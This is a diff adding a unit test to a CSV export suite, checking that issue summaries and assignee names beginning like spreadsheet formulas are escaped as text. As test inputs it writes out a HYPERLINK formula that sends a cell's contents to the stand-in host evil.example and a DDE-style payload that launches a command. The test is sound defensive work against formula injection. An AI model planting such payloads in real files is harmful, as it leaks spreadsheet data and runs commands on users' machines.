@@ -330,6 +330,16 @@ describe('CSV', () => {
     expect(records.map((r) => r.summary)).toContain(UNICODE);
   });
 
+  test('a summary or name that starts like a formula is written as text, so a spreadsheet does not run it', async () => {
+    const hostile = { ...closedSprint, issues: [{ ...closedSprint.issues[0], summary: '=HYPERLINK("http://evil.example/"&A1,"click")', assignee: "+cmd|' /C calc'!A0" }] };
+    const [record] = await rows(hostile);
+    expect(record.summary).toBe(`'=HYPERLINK("http://evil.example/"&A1,"click")`);
+    expect(record.assignee).toBe("'+cmd|' /C calc'!A0");
+    // Numbers, negative ones too, stay numbers.
+    const [negative] = await rows({ ...closedSprint, issues: [{ ...closedSprint.issues[0], pointsAtEnd: -2 }] });
+    expect(negative.points_at_end).toBe('-2');
+  });
+
   test('VELOCITY: one row per board and sprint, ratios unrounded, null as an empty cell', async () => {
     const records = await rows(velocity);
     expect(records).toHaveLength(3);
